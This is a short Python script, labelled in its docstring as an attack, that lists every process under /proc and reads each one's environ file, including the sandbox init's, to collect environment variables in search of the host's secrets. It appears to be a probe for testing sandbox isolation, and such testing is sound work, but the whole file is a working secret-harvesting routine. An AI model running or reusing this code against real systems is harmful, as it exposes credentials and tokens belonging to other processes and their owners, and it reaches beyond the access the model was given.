"""Attack: read the environment of the sandbox's init and of every other visible process
through /proc/<pid>/environ, hunting for the host's secrets."""
import os


def main():
    environments = {}
    errors = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open("/proc/%s/environ" % entry, "rb") as source:
                raw = source.read()
        except OSError as error:
            errors[entry] = error.strerror
            continue
        pairs = [item.decode("utf-8", "replace") for item in raw.split(b"\0") if item]
        environments[entry] = dict(pair.split("=", 1) if "=" in pair else (pair, "") for pair in pairs)
    return {"environments": environments, "errors": errors}
